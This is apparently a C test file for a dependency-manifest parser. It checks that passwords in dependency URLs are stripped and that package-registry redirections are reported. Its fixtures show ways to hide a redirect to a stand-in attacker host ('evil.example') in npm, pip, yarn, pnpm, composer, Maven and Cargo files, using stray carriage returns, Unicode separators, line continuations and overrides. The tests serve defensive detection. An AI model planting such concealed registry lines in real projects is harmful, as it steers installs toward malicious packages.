/* parsers_depend_hostile.c -- the probe dependencies over files that are
 * written so that it tells secrets, or too many things. */
#include <stdio.h>
#include <stdlib.h>

#include "base/buf.h"
#include "parsers/depend/depend.h"
#include "probe_files.h"

#define PROBE(...)                                                             \
	probe_files(                                                           \
		"dependencies", dependencies_run,                              \
		(const struct probe_file[]){ __VA_ARGS__, { NULL, NULL } })

/* Every place of every format in which a URL can stand. */
static void no_password_of_a_url_is_handed_on(void)
{
	static const struct probe_file rows[] = {
		F("pyproject.toml",
		  "[project]\ndependencies=['a']\n[tool.uv.sources]\n"
		  "a={git='https://u:pw@h.example/a.git'}\n"),
		F("pyproject.toml",
		  "[project]\ndependencies=['a']\n[tool.uv.sources]\n"
		  "a={url='https://u:pw@h.example/a.zip'}\n"),
		F("pyproject.toml",
		  "[project]\ndependencies=['a @ https://u:pw@h.example/a']\n"),
		F("pyproject.toml", "[tool.poetry.dependencies]\n"
				    "a={git='https://u:pw@h.example/a.git'}\n"),
		F("pyproject.toml", "[tool.poetry.dependencies]\n"
				    "a='https://x.example https://u:pw@h'\n"),
		F("requirements.txt", "git+https://u:pw@h.example/a#egg=a\n"),
		F("setup.cfg", "[options]\ninstall_requires =\n"
			       " a @ https://u:pw@h.example/a\n"),
		F("Pipfile", "[packages]\na={git='https://u:pw@h/a.git'}\n"),
		F("Cargo.toml", "[dependencies]\n"
				"a={git='https://u:pw@h.example/a'}\n"),
		F("Cargo.lock", "[[package]]\nname='a'\nversion='1'\n"
				"source='git+https://u:pw@h.example/a#1'\n"),
		F("uv.lock", "version=1\n[[package]]\nname='a'\nversion='1'\n"
			     "source={git='https://u:pw@h.example/a'}\n"),
		F("poetry.lock",
		  "[[package]]\nname='a'\nversion='1'\n[package.source]\n"
		  "type='git'\nurl='https://u:pw@h.example/a'\n"),
		F("Gemfile.lock", "GIT\n  remote: https://u:pw@h.example/a\n"
				  "  specs:\n    a (1)\n"),
		F("package.json",
		  "{\"dependencies\":{\"a\":\"git+https://u:pw@h/a\"}}"),
	};

	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		char *o = PROBE(rows[i]);

		ok_json(o, "/slice/files/ANY", "{\"role\":\"own\"}");
		ok(strstr(o, "\"a\"") != NULL);
		ok(strstr(o, "pw@") == NULL);
		free(o);
	}
}

static void an_at_sign_behind_the_host_stays(void)
{
	char *o = PROBE(
		F("requirements.txt", "git+https://h.example/a@v1#egg=a\n"));

	ok_json(o, "/slice/dependencies/ANY",
		"{\"url\":\"git+https://h.example/a@v1#egg=a\"}");
	free(o);
}

/* Source: the purl specification: no segment of a namespace, and no name, is
 * empty. */
static void a_package_url_has_no_empty_part(void)
{
	char *o = PROBE(F("package.json", "{\"dependencies\":{\"//a///b/\":"
					  "\"1\",\"/\":\"1\"}}"));

	ok_json(o, "/slice/dependencies/ANY",
		"{\"name\":\"//a///b/\",\"purl\":\"pkg:npm/a/b\"}");
	ok_json(o, "/slice/dependencies/ANY", "{\"name\":\"/\",\"purl\":null}");
	free(o);
}

/* A lockfile that comes first by its name and fills the whole slice. */
static void one_lockfile_leaves_room_for_the_others(void)
{
	struct buf big = { 0 };
	char *o;

	for (unsigned i = 0; i < 20000; i++)
		buf_format(&big,
			   "[[package]]\nname='hostile-%u'\nversion='1'\n", i);
	o = PROBE(F("a/Cargo.lock", big.bytes),
		  F("b/Cargo.lock", "[[package]]\nname='mine'\nversion='1'\n"));
	ok_json(o, "/slice/packages/ANY", "{\"name\":\"mine\"}");
	ok_json(o, "/warnings/ANY", "{\"code\":\"truncated\"}");
	free(o);
	buf_done(&big);
}

/* A lockfile with more packages than fit leaves some room for the next
 * lockfile. */
static void a_file_takes_half_of_the_room(void)
{
	owned_buf struct buf lock = { 0 };
	char *o;

	buf_text(&lock, "GEM\n  specs:\n");
	for (size_t i = 0; i < 210000; i++)
		buf_format(&lock, "    p%zu (1)\n", i);
	buf_char(&lock, '\0');
	o = PROBE(F("Gemfile.lock", lock.bytes),
		  F("uv.lock",
		    "[[package]]\nname = \"small\"\nversion = \"1\"\n"
		    "source = {registry = \"r\"}\n"));
	ok_json(o, "/errors/ANY",
		"{\"code\":\"truncated\",\"source\":\"Gemfile.lock\"}");
	ok_json(o, "/slice/packages/ANY",
		"{\"name\":\"small\",\"version\":\"1\"}");
	free(o);
}

/* --- where packages are taken from --------------------------------------------- */

#define EVIL "https://evil.example/s"

/* A file that has EVIL where a tool finds it and a quick reader does not; and
 * the registry or the error that is reported.  Both NULL: neither. */
static const struct {
	struct probe_file file;
	const char *text, *error;
} hidden[] = {
	/* keys of passwords */
	{ F(".yarnrc.yml",
	    "{npmAuthToken: x, npmRegistryServer: \"" EVIL "\"}"),
	  "null", NULL },
	{ F("pnpm-workspace.yaml", "{x_auth: 1, registry: \"" EVIL "\"}"),
	  "null", NULL },
	{ F("pnpm-workspace.yaml", "{\"registry\":\"" EVIL "\", x_auth: 1}"),
	  "null", NULL },
	{ F("pnpm-workspace.yaml", "x_auth: {registry: \"" EVIL "\"}"), "null",
	  NULL },
	{ F("pnpm-workspace.yaml", "{\"registry\":\"evil\", x_auth: 1}"),
	  "null", NULL },
	{ F(".yarnrc", "registry \"" EVIL "/x_auth=1\""), "null", NULL },
	{ F(".npmrc", "//registry.example/:_authToken=${T}\n_password=ab==\n"),
	  NULL, NULL },
	{ F(".yarnrc.yml", "npmAuthToken: \"x\"\n"), NULL, NULL },
	/* keys and addresses that are put together, and other keys */
	{ F(".npmrc", "reg${X?}istry=https:/${X?}/evil/\n"), "null", NULL },
	{ F(".npmrc", "reg${X}istry=https:/${X}/evil/\n"),
	  "\"reg${X}istry=https:/${X}/evil/\"", NULL },
	{ F(".npmrc", "x=https://evil:${X?}4/a@h.example/\n"), "null", NULL },
	{ F(".npmrc", "https-proxy=http:/evil:1/\n"),
	  "\"https-proxy=http:/evil:1/\"", NULL },
	{ F(".npmrc", "proxy=evil\n"), "\"proxy=evil\"", NULL },
	{ F(".npmrc", "userconfig=./x\n"), "\"userconfig=./x\"",
	  "include_unread" },
	{ F(".npmrc", "globalconfig=./x\n"), "\"globalconfig=./x\"",
	  "include_unread" },
	{ F("pnpm-workspace.yaml", "registries:\n  default: https:/evil/\n"),
	  "\"default: https:/evil/\"", NULL },
	{ F(".npmrc", "save-exact=true\n"), NULL, NULL },
	/* ends of lines */
	{ F(".npmrc", "# c\rregistry=" EVIL "\n"), "\"registry=" EVIL "\"",
	  NULL },
	{ F(".npmrc", "registry=" EVIL "\r\n"), "\"registry=" EVIL "\"", NULL },
	{ F("gradle-wrapper.properties", "# c\rdistributionUrl=" EVIL "/g\n"),
	  "\"distributionUrl=" EVIL "\"", NULL },
	{ F(".mvn/maven.config", "# c\r-De=" EVIL), "\"-De=" EVIL "\"", NULL },
	{ F("requirements.txt", "# c\r-i " EVIL), "\"-i " EVIL "\"", NULL },
	{ F("requirements.txt", "# c\v-i " EVIL), "\"-i " EVIL "\"", NULL },
	{ F("requirements.txt", "# c\f-i " EVIL), "\"-i " EVIL "\"", NULL },
	{ F("requirements.txt", "# c\x1c-i " EVIL), "\"-i " EVIL "\"", NULL },
	{ F("requirements.txt", "# c\x1d-i " EVIL), "\"-i " EVIL "\"", NULL },
	{ F("requirements.txt", "# c\x1e-i " EVIL), "\"-i " EVIL "\"", NULL },
	{ F("requirements.txt", "# c\xc2\x85-i " EVIL), "\"-i " EVIL "\"",
	  NULL },
	{ F("requirements.txt", "# c\xe2\x80\xa8-i " EVIL), "\"-i " EVIL "\"",
	  NULL },
	{ F("requirements.txt", "# c\xe2\x80\xa9-i " EVIL), "\"-i " EVIL "\"",
	  NULL },
	{ F("requirements.txt", "# c\xe2\x80\xa7-i " EVIL), NULL, NULL },
	/* codings */
	{ F("requirements.txt", "# coding: utf-7\n"), NULL, "bad_encoding" },
	{ F("requirements.txt", "\n# vim: fileencoding=utf_16\n"), NULL,
	  "bad_encoding" },
	{ F("requirements.txt", "\xff\xfe-"), NULL, "bad_encoding" },
	{ F("requirements.txt", "\xfe\xff-"), NULL, "bad_encoding" },
	{ F("requirements.txt", "# -*- coding: UTF-8 -*-\n"), NULL, NULL },
	{ F("requirements.txt", "#\n#\n# coding: utf-7\n"), NULL, NULL },
	/* files that are included */
	{ F("requirements.txt", "-r deps.lst\n"), NULL, "include_unread" },
	{ F("requirements.txt", "-cdeps.lst\n"), NULL, "include_unread" },
	{ F("requirements.txt", "--requirement=deps.lst\n"), NULL,
	  "include_unread" },
	{ F("requirements.txt", "--pre --constraint deps.lst\n"), NULL,
	  "include_unread" },
	{ F("requirements.txt", "-r ../requirements.txt\n"), NULL,
	  "include_unread" },
	{ F("requirements.txt", "-r /requirements.txt\n"), NULL,
	  "include_unread" },
	{ F("requirements.txt", "-r node_modules/a/requirements.txt\n"), NULL,
	  "include_unread" },
	{ F("requirements.txt", "-r requirements${X}.txt\n"), NULL,
	  "include_unread" },
	{ F("a/requirements.txt", "-r ../b/./requirements-b.txt\n"), NULL,
	  NULL },
	{ F("requirements/a.txt", "-r b.in\n-c ../constraints.txt\n"), NULL,
	  NULL },
	{ F("requirements.txt", "-\"i\" evil\n"), "\"-\\\"i\\\" evil\"", NULL },
	{ F("requirements.txt", "--pre -i " EVIL), "\"--pre -i " EVIL "\"",
	  NULL },
	/* lines of requirements that continue */
	{ F("requirements.txt", "--extra-in\\\ndex-url " EVIL),
	  "\"--extra-index-url " EVIL "\"", NULL },
	{ F("requirements.txt", "-\\\ni https:\\\n//evil"),
	  "\"-i https://evil\"", NULL },
	{ F("requirements.txt", "-i https:/\\\\\n\\/evil #\\\n c"),
	  "\"-i https://evil\"", NULL },
	{ F("requirements.txt", "# c \\\n-i " EVIL), "\"-i " EVIL "\"", NULL },
	{ F("requirements.txt", "a #\\\n-i " EVIL), NULL, NULL },
	{ F("requirements.txt", "-i " EVIL "\\\n# c\\\na"), "\"-i " EVIL "\"",
	  NULL },
	{ F("requirements.txt", "-i " EVIL "\\\n"), "\"-i " EVIL "\"", NULL },
	/* mirrors */
	{ F("composer.lock",
	    "{\"packages\":[{\"name\":\"a/b\",\"dist\":{\"mirrors\":["
	    "{\"url\":\"" EVIL "/%package%\",\"preferred\":true}]}}]}"),
	  "\"" EVIL "/%package%\"", NULL },
	{ F("composer.lock",
	    "{\"packages\":[{\"name\":\"a/b\",\"source\":{\"mirrors\":["
	    "{\"url\":\"" EVIL "\"}]}}]}"),
	  "\"" EVIL "\"", NULL },
	/* what a package.json replaces */
	{ F("package.json", "{\"overrides\":{\"a\":{\"b\":\"" EVIL "\"}}}"),
	  "\"" EVIL "\"", NULL },
	{ F("package.json", "{\"resolutions\":{\"a\":\"o/r\"}}"), "\"o/r\"",
	  NULL },
	{ F("package.json",
	    "{\"pnpm\":{\"overrides\":{\"a\":\"https:/evil/s\"}}}"),
	  "\"https:/evil/s\"", NULL },
	{ F("package.json", "{\"packageManager\":\"yarn@" EVIL "\"}"),
	  "\"yarn@" EVIL "\"", NULL },
	{ F("package.json", "{\"overrides\":{\"a\":\"^1\",\"b\":\"$b\"},"
			    "\"packageManager\":\"yarn@4.1.0\"}"),
	  NULL, NULL },
	{ F(".cargo/config.toml", "[http]\nproxy='evil:80'\n"), "\"evil:80\"",
	  NULL },
};

static void an_origin_is_not_hidden(void)
{
	for (size_t i = 0; i < sizeof hidden / sizeof *hidden; i++) {
		owned_buf struct buf want = { 0 };
		int before = tap_bad;
		char *o = PROBE(hidden[i].file);

		if (hidden[i].text != NULL) {
			buf_format(&want, "{\"text\":%s}", hidden[i].text);
			ok_json(o, "/slice/registries/ANY", want.bytes);
		} else {
			ok(strstr(o, "\"registries\":[]") != NULL);
		}
		want.len = 0;
		if (hidden[i].error != NULL) {
			buf_format(&want, "{\"code\":\"%s\"}", hidden[i].error);
			ok_json(o, "/errors/ANY", want.bytes);
		} else {
			ok(strstr(o, "\"errors\":[]") != NULL);
		}
		if (tap_bad != before)
			fprintf(stderr, "# %zu: %s\n", i, hidden[i].file.text);
		free(o);
	}
}

int main(void)
{
	return tap_run((struct tap_case[]){
		CASE(no_password_of_a_url_is_handed_on),
		CASE(an_at_sign_behind_the_host_stays),
		CASE(a_package_url_has_no_empty_part),
		CASE(one_lockfile_leaves_room_for_the_others),
		CASE(a_file_takes_half_of_the_room),
		CASE(an_origin_is_not_hidden),
		TAP_END,
	});
}
